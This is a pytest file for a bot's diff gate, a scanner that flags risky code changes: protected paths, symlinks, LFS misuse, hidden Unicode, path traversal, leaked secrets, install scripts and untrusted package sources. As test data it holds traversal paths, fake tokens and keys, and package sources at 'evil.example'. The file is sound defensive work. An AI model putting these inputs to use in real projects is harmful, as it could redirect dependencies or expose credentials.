"""The diff gate: each rule with what it must catch and what it must let through."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from otto_bot.core.lfs import Kept
from otto_bot.core.tampering_paths import is_test
from otto_bot.git.changes import FileChange
from otto_bot.git.diff_gate import GateLimits, Looked, inspect, odd_path, wanted
from otto_bot.git.diff_rules import Globs, added_lines
from otto_bot.git.diff_secrets import gitleaks, secrets_in


def change(path: str, **more) -> FileChange:
    return FileChange(**{"path": path, "status": "modified", "mode_before": "100644", "mode_after": "100644", **more})


def rules(*changes: FileChange, **more) -> set[str]:
    return {finding.rule for finding in inspect(changes, **more)}


def patch(*lines: str, start: int = 1) -> str:
    return f"diff --git a/x b/x\n--- a/x\n+++ b/x\n@@ -1,0 +{start},9 @@\n" + "\n".join(lines) + "\n"


def test_an_ordinary_diff_passes() -> None:
    assert inspect([change("src/app.py", patch=patch("+x = 1"), size=10), change("tests/test_a.py")]) == []


POINTER = ("version https://git-lfs.github.com/spec/v1", "oid sha256:4d7a", "size 12")
LFS = Looked(kept=Kept({".gitattributes": "*.psd filter=lfs"}))


def lfs(*changes: FileChange) -> set[str]:
    return {finding.detail for finding in inspect(changes, looked=LFS) if finding.rule == "lfs"}


def test_content_that_belongs_to_git_lfs_is_held() -> None:
    plain, pointer = patch("+Hello"), patch(*(f"+{line}" for line in POINTER))
    written = {"Git LFS keeps its content, and Otto cannot write it there"}
    assert lfs(change("a.psd", patch=plain, size=5)) == written
    assert lfs(change("new/a.psd", patch=pointer, size=90, status="added", mode_before=None)) == written
    assert lfs(change("a.bin", patch=patch(*(f"-{line}" for line in POINTER), "+Hello"), size=5)) == written
    assert lfs(change("a.bin", patch=pointer, size=90)) == {"it is a pointer of Git LFS to a content that nobody has"}
    moved = change("a.txt", old_path="a.psd", status="renamed", blob_before="b" * 40, blob_after="b" * 40)
    assert lfs(moved) == {"`.gitattributes` says nothing of it at its new place"}


def test_what_leaves_pointers_whole_passes() -> None:
    same = {"blob_before": "b" * 40, "blob_after": "b" * 40}
    assert lfs(change("b.psd", old_path="a.psd", status="renamed", **same)) == set()
    assert lfs(change("a.psd", mode_after=None, status="deleted", patch=patch(*(f"-{x}" for x in POINTER)))) == set()
    assert lfs(change("a.psd", mode_after="100755", **same)) == set()
    assert lfs(change("a.txt", patch=patch("+Hello"), size=5)) == set()


@pytest.mark.parametrize(
    "path",
    [".github/workflows/ci.yml", ".github/otto.yml", ".GitHub/workflows/x.yml", "CODEOWNERS", "docs/CODEOWNERS"],
)
def test_protected_paths(path: str) -> None:
    (finding,) = inspect([change(path)])
    assert (finding.rule, finding.path) == ("protected_path", path)


def test_moving_a_protected_file_away_is_caught() -> None:
    moved = change("ci.yml", status="renamed", old_path=".github/workflows/ci.yml")
    assert rules(moved) == {"protected_path"}


@pytest.mark.parametrize(
    ("pattern", "hits", "misses"),
    [
        (".github/**", [".github/a", ".github/a/b"], ["x/.github/a", ".githubx/a"]),
        ("CODEOWNERS", ["CODEOWNERS", "a/b/CODEOWNERS", "codeowners"], ["CODEOWNERS.md"]),
        ("*.lock", ["a.lock", "x/b.lock"], ["a.lock.md"]),
        ("infra/", ["infra/a", "x/infra/b"], ["infrastructure/a"]),
        ("/infra/*.tf", ["infra/a.tf"], ["infra/x/a.tf", "x/infra/a.tf"]),
        ("a/**/z", ["a/z", "a/b/c/z"], ["a/bz"]),
        ("**/secrets", ["secrets", "a/secrets/x"], ["mysecrets"]),
        ("v?.txt", ["v1.txt"], ["v12.txt", "v/.txt"]),
        ("a+(b)", ["a+(b)"], ["aa(b)"]),
    ],
)
def test_globs(pattern: str, hits: list[str], misses: list[str]) -> None:
    globs = Globs([pattern, " "])
    assert [path for path in hits if globs.match(path) != pattern] == []
    assert [path for path in misses if globs.match(path)] == []


def test_links_and_submodules() -> None:
    assert rules(change("a", status="added", mode_before=None, mode_after="120000")) == {"symlink"}
    assert rules(change("a", status="type_changed", mode_after="120000")) == {"symlink"}
    assert rules(change("a", status="deleted", mode_before="120000", mode_after=None)) == set()
    assert rules(change("a", status="added", mode_before=None, mode_after="160000")) == {"submodule"}
    assert rules(change("a", status="deleted", mode_before="160000", mode_after=None)) == {"submodule"}
    assert rules(change(".gitmodules")) == {"submodule", "protected_path"}


def test_what_becomes_executable_holds_nothing() -> None:
    assert inspect([change("a.sh", mode_after="100755")]) == []


def test_sizes() -> None:
    limits = GateLimits(file_bytes=10, total_bytes=15, files=2)
    assert rules(change("a", size=11), limits=limits) == {"file_too_large"}
    assert rules(change("a", size=8), change("b", size=8), limits=limits) == {"diff_too_large"}
    assert rules(*(change(name) for name in "abc"), limits=limits) == {"too_many_files"}
    assert rules(change("a", size=10), limits=limits) == set()


def test_what_stood_there_before_is_not_new() -> None:
    limits = GateLimits(file_bytes=1000, total_bytes=15)
    grown = {"size": 900, "size_before": 890, "blob_before": "a", "blob_after": "b"}
    assert rules(change("a", patch=patch("+12345"), **grown), limits=limits) == set()
    assert rules(change("a", patch=patch("+" + "x" * 20), **grown), limits=limits) == {"diff_too_large"}
    moved = {**grown, "blob_before": "b"}
    assert rules(change("a", old_path="c", **moved), limits=limits) == set()


def test_every_kind_of_what_hides_is_told_with_its_lines() -> None:
    odd = ["+a\u200bb", "+x\u202ey", "+a\u200bc", "+z"]
    found = inspect([change("a.py", patch=patch(*odd))])
    assert [(one.line, one.detail.rpartition(")")[2]) for one in found] == [(1, ", also in line 3"), (2, "")]


@pytest.mark.parametrize(
    "path",
    [
        "../x",
        "a/../b",
        "/etc/passwd",
        "a//b",
        "a/./b",
        "a\nb",
        "a\x7fb",
        "a\udce9",
        "a\\b",
        ".git/config",
        "a/.GIT/hooks/x",
        ".git./x",
        ".git /x",
        "GIT~1/x",
        ".git::$INDEX_ALLOCATION/x",
        ".g\u200cit/x",
        "x" * 256,
    ],
)
def test_odd_paths(path: str) -> None:
    assert odd_path(path)
    assert "bad_path" in rules(change(path))


@pytest.mark.parametrize("path", [".gitignore", "a/.gitattributes", "ü/日本.txt", "a b/c.txt", "...", "x.git/y"])
def test_paths_that_are_fine(path: str) -> None:
    assert odd_path(path) is None


@pytest.mark.parametrize(
    "line",
    [
        "-----BEGIN RSA PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----",
        "-----BEGIN OPENSSH PRIVATE KEY-----",
        "token = 'ghp_" + "a" * 36 + "'",
        "token = 'ghs_12345_" + "a.b-c_" * 20 + "'",
        "github_pat_" + "A1" * 20,
        "AKIA" + "Q7" * 8,
        "key: sk-ant-api03-" + "x" * 30,
        "xoxb-1234567890-abcdef",
        "postgres://app:hunter2hunter2@db.example.com/x",
        "x" * 50_000 + " ghp_" + "a" * 36,
    ],
)
def test_secrets(line: str) -> None:
    (finding,) = inspect([change("a.py", patch=patch(" context", "+" + line, start=7))])
    assert (finding.rule, finding.line) == ("secret", 8)
    assert "aaaa" not in finding.detail


@pytest.mark.parametrize(
    "line",
    ["AKIAIOSFODNN7EXAMPLE", "ghp_short", "https://example.com:8080/a@b", "postgres://app:$PASSWORD@db/x", "sk-x"],
)
def test_what_is_no_secret(line: str) -> None:
    assert inspect([change("a.py", patch=patch("+" + line))]) == []


def test_a_secret_that_leaves_is_no_finding() -> None:
    assert inspect([change("a.py", patch=patch("-ghp_" + "a" * 36, " ghp_" + "b" * 36))]) == []


def test_what_was_not_scanned_is_said() -> None:
    found = inspect([change("a.bin", binary=True, size=5), change("b.txt", patch_cut=True)])
    assert [(one.rule, one.path) for one in found] == [
        ("binary", "a.bin"),
        ("not_scanned", "b.txt"),
    ]


@pytest.mark.parametrize(
    "weaker",
    [
        change("tests/test_a.py", status="deleted", mode_after=None),
        change("src/a.test.ts", patch=patch("-it('x', f)", "+it.skip('x', f)")),
    ],
)
def test_weaker_tests_are_asked_about_elsewhere(weaker: FileChange) -> None:
    assert inspect([weaker]) == []


def test_what_counts_as_a_test() -> None:
    for path in ("tests/a.py", "a/test_b.py", "b_test.go", "x.spec.tsx", "__tests__/a.js", "conftest.py"):
        assert is_test(path)
    for path in ("src/contest.py", "latest/a.py", "testing.md"):
        assert not is_test(path)


def test_added_lines_are_numbered_as_in_the_new_file() -> None:
    text = patch(" a", "+b", "-c", "+++ d", "\\ No newline at end of file", start=3) + "@@ -9 +20 @@\n+e\n"
    assert list(added_lines(text)) == [(4, "b"), (5, "++ d"), (20, "e")]


@pytest.mark.parametrize(
    "line",
    [
        'password = "correct-horse"', 'token = "not-a-real-token-1234"',
        "DATABASE_URL=postgres://user:password@localhost/db",
        'assert login("anna", password="secret123")', 'api_key = os.environ["API_KEY_OF_A_42"]',
        "  token: ${{ secrets.GITHUB_TOKEN }}",
        "integrity sha512-6FlzubTLZG3J2a/NVCAleEhjzq5oxgHyaCU9yYXvcLsvoVaHJq/s5x==",
        "curl -H 'Authorization: Bearer $TOKEN'", "key = hashlib.sha256(data).hexdigest()", "sk_test_ is a prefix",
        "redis://:password@redis:6379/0", "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
    ],
)  # fmt: skip
def test_what_examples_and_tests_write_is_no_secret(line: str) -> None:
    assert list(secrets_in([(1, line)])) == []


@pytest.mark.parametrize(
    "line",
    [
        'password = "kT9#vQ2m!xW7pL4z"', "client_secret: 9f8K2mQx7LpZ4vTn1RbY",
        "Authorization: Bearer 9f8K2mQx7LpZ4vTn1RbYw3",
        "dop_v1_" + "3f9a1c7e5b2d8046" * 4,
        "AGE-SECRET-KEY-1" + "QPZRY9X8GF2TVDW0S3JN54KHCE6MUA7L" + "QPZRY9X8GF2TVDW0S3JN54KHCE",
        "https://deploy:kT9vQ2mxW7pL4z@git.corp.io/x", "hf_" + "aBcDeFgHiJkLmNoPqRsTuVwXyZaBcDeFgH",
    ],
)  # fmt: skip
def test_values_that_machines_made(line: str) -> None:
    assert [number for number, _ in secrets_in([(1, "x"), (2, line), (3, "y")])] == [2]


def test_the_rules_of_gitleaks_are_there() -> None:
    assert len(gitleaks()) > 100
    assert all(rule.keywords and rule.keywords == tuple(word.lower() for word in rule.keywords) for rule in gitleaks())


def test_hostile_lines_cost_little() -> None:
    """Every keyword on one line of a quarter of a megabyte, without an end to any token."""
    words = " ".join(word for rule in gitleaks() for word in rule.keywords)
    line = (words + "a1" * 40) * (256 * 1024 // (len(words) + 80))
    began = time.process_time()
    list(secrets_in([(1, line)]))
    assert time.process_time() - began < 5


def test_what_git_calls_binary_is_read_where_it_is_text() -> None:
    token = "ghp_" + "a1B2" * 9
    data = {
        "u": f"x\r\n{token}\r\n".encode("utf-16"),
        "n": b"some text\0and more\n",
        "p": b"\x89PNG\r\n\x1a\n" + bytes(range(256)),
    }
    looked = Looked(contents=data)

    def found(blob: str) -> list[tuple[str, int | None]]:
        one = change("x", binary=True, size=9, blob_after=blob)
        return [(finding.rule, finding.line) for finding in inspect([one], looked=looked)]

    assert found("u") == [("secret", 2)]
    assert found("n") == [("hidden_text", 1)]
    assert found("p") == [("binary", None)]
    assert wanted([change("x", binary=True, blob_after="u"), change("y", blob_after="z")]) == ["u"]


def test_a_byte_that_is_no_text_hides_nothing_of_what_is_installed() -> None:
    lock = b'{"packages": {"node_modules/a": {"funding": "\xff", "resolved": "https://evil.example/a.tgz"}}}'
    files = {
        "package.json": b'{"author": "\xe9", "scripts": {"postinstall": "node x"}}',
        "package-lock.json": lock,
        "requirements.txt": b"a==1 # \xff\n--index-url https://evil.example/simple\n",
    }
    for (path, data), rule in zip(files.items(), ("install_script", "lock_source", "lock_source"), strict=True):
        one = change(path, size=len(data), blob_before="", blob_after="x")
        assert [found.rule for found in inspect([one], looked=Looked(contents={"x": data}))] == [rule]


def test_utf_16_at_the_beginning_makes_no_text_of_what_follows() -> None:
    data = "plain text ".encode("utf-16-le") * 300 + "\u5b57".encode("utf-16-le") * 20_000
    one = change("x.bin", binary=True, size=len(data), blob_after="x")
    assert [found.rule for found in inspect([one], looked=Looked(contents={"x": data}))] == ["binary"]


@pytest.mark.parametrize("kind", ["ascii", "utf-16-le", "utf-16-be"])
def test_a_token_within_what_nobody_can_read_is_one(kind: str) -> None:
    token = ("key=ghp_" + "a1B2" * 9).encode(kind)
    data = b"\x89PNG\r\n\x1a\n" + bytes(range(128, 256)) * 4 + token + bytes(range(256))
    one = change("x.png", binary=True, size=len(data), blob_after="x")
    found = inspect([one], looked=Looked(contents={"x": data}))
    assert [(finding.rule, finding.line) for finding in found] == [("secret", None), ("binary", None)]


def test_links_say_where_they_lead() -> None:
    def detail(path: str, target: str) -> str:
        (one,) = inspect([change(path, mode_before=None, mode_after="120000", patch=patch(f"+{target}"))])
        return one.detail

    for path, target in (
        ("a", "/etc/passwd"),
        ("a", "../x"),
        ("d/a", "../../x"),
        ("d/a", "x/../../../y"),
        ("a", "C:/x"),
    ):
        assert detail(path, target) == "it points out of the tree"
    for path, target in (("a", "b"), ("d/a", "../x"), ("d/e/a", "../../x")):
        assert detail(path, target) == "it points to another place of the tree"


def test_a_name_of_a_finding_is_bound_to_the_content() -> None:
    def name(**more) -> str:
        (one,) = inspect([change("CODEOWNERS", **more)])
        return one.name

    assert name(blob_after="1", patch="a") == name(blob_after="1", patch="b", size=5)
    assert (
        len({name(blob_after="1"), name(blob_after="2"), name(patch="a"), name(patch="b"), name(mode_after=None)}) == 5
    )


@given(st.text(), st.text())
def test_any_input_is_answered(path: str, body: str) -> None:
    found = inspect([change(path, patch=body), change("a", patch=patch("+" + body))])
    assert all(finding.rule and finding.detail for finding in found)
    assert list(secrets_in([(1, body)])) == list(secrets_in([(1, body)]))
